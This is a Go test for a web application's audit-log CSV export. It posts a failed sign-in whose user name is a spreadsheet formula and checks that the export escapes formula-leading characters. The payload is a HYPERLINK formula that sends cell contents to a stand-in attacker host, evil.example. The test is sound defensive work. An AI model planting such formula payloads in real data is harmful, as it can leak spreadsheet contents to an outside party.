package handlers_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// A signed-out visitor types a spreadsheet formula as the user name at the sign-in page:
// the failed sign-in is audited with that name as its target, and the auditor who opens
// the CSV export in a spreadsheet must see text, not a formula that runs.
func TestAuditExportNeutralizesFormulas(t *testing.T) {
	a := setup(t)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	resp := a.postForm(t, a.client(t), "/login", url.Values{"name": {formula}, "password": {"x"}})
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("POST /login with a wrong password = %d, want 401", resp.StatusCode)
	}
	admin := a.client(t)
	a.login(t, admin)
	resp, body := a.get(t, admin, "/audit/export?format=csv")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /audit/export = %d, want 200", resp.StatusCode)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("export cell %q starts like a formula", cell)
			}
			found = found || cell == "'"+formula
		}
	}
	if !found {
		t.Errorf("the failed sign-in's name %q is not in the export as text; export:\n%s", formula, body)
	}
}
